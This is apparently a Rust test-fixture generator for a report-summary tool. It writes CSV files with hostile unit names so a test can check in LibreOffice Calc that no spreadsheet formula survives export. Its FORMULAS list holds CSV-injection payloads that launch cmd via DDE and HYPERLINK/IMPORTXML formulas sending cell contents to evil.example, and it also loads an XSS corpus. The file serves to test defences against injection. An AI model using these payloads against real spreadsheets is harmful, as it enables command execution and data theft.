//! Writes the 汇总 unit list as CSV with hostile unit and file names — the
//! XSS corpus and a corpus of spreadsheet formulas — for
//! `tests/tools/csv-judge.test.mjs`, which opens it in LibreOffice Calc and
//! looks for any formula. Usage: `cargo run -p nianbao-core --example csv -- <dir>`.

use nianbao_core::collect::{summarize, units_csv};
use nianbao_core::report::{Date, Report};

/// Formulas as CSV injection writes them (OWASP's examples and variants).
const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
    "+1+1",
    "-1+1",
    "@1+1",
    "＝1+1",
];

fn main() {
    let dir = std::env::args()
        .nth(1)
        .unwrap_or_else(|| "target/csv".to_owned());
    std::fs::create_dir_all(&dir).unwrap();
    let root = env!("CARGO_MANIFEST_DIR");
    let corpus: Vec<String> = serde_json::from_str(
        &std::fs::read_to_string(format!("{root}/tests/fixtures/xss-corpus.json")).unwrap(),
    )
    .unwrap();
    let today = Date::new(2026, 2, 1).unwrap();
    let rows: Vec<(String, _)> = FORMULAS
        .iter()
        .map(|s| (*s).to_owned())
        .chain(corpus)
        .map(|name| {
            let mut r = Report::new(2025);
            r.agency.name = name.clone();
            (name, summarize(&r, today))
        })
        .collect();
    std::fs::write(format!("{dir}/units.csv"), units_csv(&rows)).unwrap();
    println!("{dir}/units.csv: {} units", rows.len());
    // One report's open data: a formula for a name, figures with a blank.
    let mut r = Report::new(2025);
    r.agency.name = "=HYPERLINK(\"http://evil.example/\",\"点这里\")".to_owned();
    let t = nianbao_core::template::TableId::Requests;
    r.set_value(t, "newReceived", "natural", Some(12));
    r.set_value(t, "newReceived", "commercial", Some(3));
    r.fill_totals();
    r.other.fee.billed = Some(125_000);
    std::fs::write(
        format!("{dir}/open-data.csv"),
        nianbao_core::open_data::open_data_csv(&r, None),
    )
    .unwrap();
}
